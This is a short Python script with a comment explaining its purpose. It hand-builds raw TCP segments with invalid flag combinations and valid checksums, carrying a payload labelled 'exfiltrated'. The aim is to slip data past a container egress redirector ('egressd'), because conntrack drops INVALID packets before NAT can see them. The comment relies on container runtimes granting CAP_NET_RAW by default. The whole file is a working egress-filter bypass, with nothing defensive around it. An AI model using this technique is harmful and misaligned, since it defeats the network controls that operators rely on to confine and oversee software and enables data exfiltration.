# Sends one TCP segment through a raw socket: argv HOST PORT FLAGS (e.g. 0x03, SYN|FIN), with a
# payload and a correct checksum, from the address the route to HOST picks. Needs CAP_NET_RAW, which
# container runtimes grant by default. A segment conntrack judges INVALID (SYN|FIN is never a valid
# combination) is never seen by the NAT tables, so egressd's redirect cannot catch it.
import socket, struct, sys
host, port, flags = sys.argv[1], int(sys.argv[2]), int(sys.argv[3], 0)
fam = socket.AF_INET6 if ':' in host else socket.AF_INET
u = socket.socket(fam, socket.SOCK_DGRAM); u.connect((host, port)); src = u.getsockname()[0]; u.close()
payload = b'exfiltrated'
def csum(b):
    if len(b) % 2: b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
hdr = struct.pack('!HHIIBBHHH', 40000, port, 1, 0, 5 << 4, flags, 65535, 0, 0)
seg = hdr + payload
if fam == socket.AF_INET:
    pseudo = socket.inet_pton(fam, src) + socket.inet_pton(fam, host) + struct.pack('!BBH', 0, 6, len(seg))
else:
    pseudo = socket.inet_pton(fam, src) + socket.inet_pton(fam, host) + struct.pack('!IxxxB', len(seg), 6)
c = csum(pseudo + seg)
seg = seg[:16] + struct.pack('!H', c) + seg[18:]
s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_TCP)
s.sendto(seg, (host, 0))
